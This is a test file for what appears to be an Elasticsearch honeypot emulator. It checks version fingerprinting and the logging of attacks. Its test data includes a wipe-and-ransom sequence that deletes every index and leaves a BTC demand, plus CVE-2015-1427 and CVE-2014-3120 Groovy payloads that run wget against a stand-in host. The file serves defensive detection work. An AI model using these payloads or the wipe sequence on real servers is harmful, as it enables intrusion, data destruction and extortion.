import { expect, it } from 'vitest';
import { Memory } from '../memory.ts';
import { bodyOf, meet } from '../play.ts';
import { elasticsearch } from './elasticsearch.ts';

const ask = (method: string, target: string, body = '') =>
  `${method} ${target} HTTP/1.1\r\nHost: x\r\nContent-Length: ${body.length}\r\n\r\n${body}`;

async function says(lines: string[], memory = new Memory(), seed = 'a') {
  const talk = meet(elasticsearch, { memory, seed, options: { version: '7.17.9' } });
  const answers: { head: string; body: string }[] = [];
  for (const line of lines) {
    const [head = '', body = ''] = (await talk.say(line)).split('\r\n\r\n');
    expect(head).toContain(`content-length: ${body.length}`);
    answers.push({ head, body });
  }
  await talk.leave();
  expect(talk.faults).toEqual([]);
  return { answers, bodies: talk.events.map(bodyOf) };
}

it('says who it is in the order and spacing of Elasticsearch 7.17', async () => {
  const { answers } = await says([ask('GET', '/')]);
  expect(answers[0]!.head).toMatch(
    /^HTTP\/1\.1 200 OK\r\nX-elastic-product: Elasticsearch\r\ncontent-type: application\/json; charset=UTF-8\r\ncontent-length: \d+$/,
  );
  expect(answers[0]!.body).toMatch(
    /^\{\n {2}"name" : ".+",\n {2}"cluster_name" : "elasticsearch",\n[\s\S]*"tagline" : "You Know, for Search"\n\}\n$/,
  );
});

it('is emptied, and holds the note that is left', async () => {
  const memory = new Memory();
  const first = await says([ask('GET', '/_cat/indices'), ask('GET', '/_search?size=5')], memory);
  const names = first.answers[0]!.body.trim()
    .split('\n')
    .map((line) => line.split(/\s+/)[2]!);
  expect(names).toHaveLength(3);
  expect(JSON.parse(first.answers[1]!.body).hits.hits).toHaveLength(5);
  const note = JSON.stringify({ message: 'Your data is backed up. Pay 0.01 BTC, write to a@192.0.2.9' });
  const { answers, bodies } = await says(
    [
      ...names.map((name) => ask('DELETE', `/${name}`)),
      ask('POST', '/_bulk', `{"index":{"_index":"read_me","_id":"1"}}\n${note}\n`),
    ],
    memory,
  );
  expect(answers.slice(0, 3).map(({ body }) => body)).toEqual(Array(3).fill('{"acknowledged":true}'));
  expect(JSON.parse(answers[3]!.body)).toMatchObject({
    errors: false,
    items: [{ index: { _index: 'read_me', status: 201 } }],
  });
  expect(bodies.filter(({ kind }) => kind === 'request')).toHaveLength(4);
  const later = await says([ask('GET', '/read_me/_doc/1'), ask('GET', `/${names[0]}`)], memory);
  expect(JSON.parse(later.answers[0]!.body)).toMatchObject({ found: true, _source: JSON.parse(note) });
  expect(later.answers[1]!.head).toMatch(/^HTTP\/1\.1 404 Not Found/);
});

it.each([
  [
    'CVE-2015-1427',
    {
      size: 1,
      script_fields: {
        a: {
          script:
            'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("wget http://192.0.2.9/x").getText()',
          lang: 'groovy',
        },
      },
    },
  ],
  [
    'CVE-2014-3120',
    {
      script_fields: {
        b: { script: 'import java.util.*; Runtime.getRuntime().exec("wget http://192.0.2.9/x");' },
      },
    },
  ],
])('a script (%s) is told with what it would run', async (_, query) => {
  const { answers, bodies } = await says([ask('POST', '/_search?pretty', JSON.stringify(query))]);
  expect(answers[0]!.head).toMatch(/^HTTP\/1\.1 400/);
  expect(bodies).toContainEqual(
    expect.objectContaining({ kind: 'command', input: 'wget http://192.0.2.9/x', ok: false }),
  );
  expect(bodies).toContainEqual({ kind: 'download', url: 'http://192.0.2.9/x', tool: 'wget' });
});

it('differs from machine to machine', async () => {
  const one = await says([ask('GET', '/_cat/indices?v')], new Memory(), 'a');
  const other = await says([ask('GET', '/_cat/indices?v')], new Memory(), 'b');
  expect(one.answers[0]!.body).not.toBe(other.answers[0]!.body);
});
